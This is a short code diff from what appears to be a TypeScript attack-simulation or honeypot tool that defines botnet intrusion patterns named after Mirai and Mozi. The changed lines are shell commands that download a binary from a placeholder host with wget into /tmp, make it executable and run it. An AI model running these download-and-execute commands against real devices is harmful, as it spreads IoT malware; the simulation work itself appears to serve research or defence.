@@ -67,7 +67,7 @@ function mirai(family: string, share: number, token: string, path: string): Atta
       'shell',
       'sh',
       `/bin/busybox ${token}`,
-      `cd /tmp || cd /var/run; /bin/busybox wget http://{host}${path} -O - > .x{n}; /bin/busybox chmod 777 .x{n}; ./.x{n} telnet`,
+      `cd /tmp || cd /var/run; /bin/busybox wget http://{host}${path} -O - > .x; /bin/busybox chmod 777 .x; ./.x telnet`,
     ],
     file: `http://{host}${path}`,
   }
@@ -145,7 +145,7 @@ export const attacks: readonly Attack[] = [
     tries: 4,
     enters: true,
     credentials: bot,
-    commands: ['sh', 'cd /tmp; wget http://{host}:4{n}/Mozi.m -O .m{n}; chmod 777 .m{n}; ./.m{n}'],
+    commands: ['sh', 'cd /tmp; wget http://{host}:4{n}/Mozi.m -O .m; chmod 777 .m; ./.m'],
     file: 'http://{host}:4{n}/Mozi.m',
   },
   {
